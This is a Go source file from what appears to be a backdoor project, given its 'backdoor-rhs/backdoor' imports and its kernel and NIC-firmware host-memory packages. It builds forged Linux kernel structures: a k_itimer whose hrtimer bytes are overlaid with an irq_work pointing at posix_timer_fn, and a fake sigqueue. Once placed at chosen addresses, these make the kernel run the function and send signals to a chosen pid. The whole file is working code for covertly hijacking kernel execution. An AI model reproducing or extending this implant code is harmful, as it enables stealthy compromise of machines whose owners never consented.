package heal

import (
	"fmt"

	"github.com/backdoor-rhs/backdoor/agent/kernel"
	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
)

// signaller is how signals are laid down for posix_timer_fn on a kernel. That function takes the k_itimer around the hrtimer
// that it is given, and sends the timer's sigqueue to the timer's pid, under siglock, as the kernel does for any expired
// timer. The hrtimer's own bytes are not used by it, so they can at the same time be the irq_work that has it called with its
// own address.
type signaller struct {
	work irqWork
	fn   kernel.VirtAddr
	fnPA hostmem.PhysAddr
	head Bytes

	itSize, itPID, itSigq, itTimer                   uint64
	sqSize, sqNext, sqPrev, sqFlags, sqSigno, sqCode uint64
}

func newSignaller(m model) (signaller, error) {
	var s signaller
	var err error
	if s.work, err = provenIRQWork(m); err != nil {
		return s, err
	}
	if s.fn, s.head, err = callable(m, "posix_timer_fn"); err != nil {
		return s, err
	}
	if s.fnPA, err = m.Phys(s.fn); err != nil {
		return s, err
	}
	l := layout{m: m}
	itNotify := l.field("k_itimer", "it_sigev_notify", 4)
	s.itSize = l.sizeof("k_itimer")
	s.itPID = l.field("k_itimer", "it_pid", 8)
	s.itSigq = l.field("k_itimer", "sigq", 8) // a structure since v6.13: refused here
	s.itTimer = l.field("k_itimer", "it.real.timer", l.sizeof("hrtimer"))
	s.sqSize = l.sizeof("sigqueue")
	s.sqNext = l.field("sigqueue", "list.next", 8)
	s.sqPrev = l.field("sigqueue", "list.prev", 8)
	s.sqFlags = l.field("sigqueue", "flags", 4)
	s.sqSigno = l.field("sigqueue", "info.si_signo", 4)
	s.sqCode = l.field("sigqueue", "info.si_code", 4)
	if l.err != nil {
		return s, fmt.Errorf("layout of posix timers: %w", l.err)
	}
	overlaps := func(off, n uint64) bool { return off < s.itTimer+s.work.size && s.itTimer < off+n }
	switch {
	case s.work.size > l.sizeof("hrtimer"), overlaps(itNotify, 4), overlaps(s.itPID, 8), overlaps(s.itSigq, 8):
		return s, fmt.Errorf("irq_work does not fit over the hrtimer of a k_itimer: %w", kernel.ErrNotSupported)
	case itimerAt+s.itSize > sigqueueAt, s.sqNext != 0, s.sqSigno >= s.sqCode, s.sqCode-s.sqSigno > maxSiginfoDistance:
		return s, fmt.Errorf("layout of posix timers is not the one known (k_itimer %d bytes, sigqueue.list at %d): %w", s.itSize, s.sqNext, kernel.ErrNotSupported)
	}
	return s, nil
}

// make returns the k_itimer, with the irq_work in it, and the sigqueue that send a signal to a struct pid when they lie at
// these addresses. next is the work that is run after it; 0 if it is the last.
func (s *signaller) make(timerVA, queueVA, pid uint64, signo uint32, next uint64) (timer, queue Bytes) {
	queue = make(Bytes, s.sqSize)
	put64(queue, s.sqNext, queueVA)
	put64(queue, s.sqPrev, queueVA)
	put32(queue, s.sqFlags, sigqueuePrealloc)
	put32(queue, s.sqSigno, signo)
	code := int32(siTimer)
	put32(queue, s.sqCode, uint32(code))
	timer = make(Bytes, s.itSize)
	put64(timer, s.itPID, pid)
	put64(timer, s.itSigq, queueVA)
	put64(timer, s.itTimer+s.work.next, next)
	put32(timer, s.itTimer+s.work.flags, irqWorkType|irqWorkLazy|irqWorkClaimed)
	put64(timer, s.itTimer+s.work.fn, uint64(s.fn))
	return timer, queue
}

// spent is what the kernel makes of a timer: the claim is gone, everything else is as it was.
func (s *signaller) spent(timer Bytes) Bytes {
	b := append(Bytes(nil), timer...)
	put32(b, s.itTimer+s.work.flags, irqWorkType|irqWorkLazy)
	return b
}
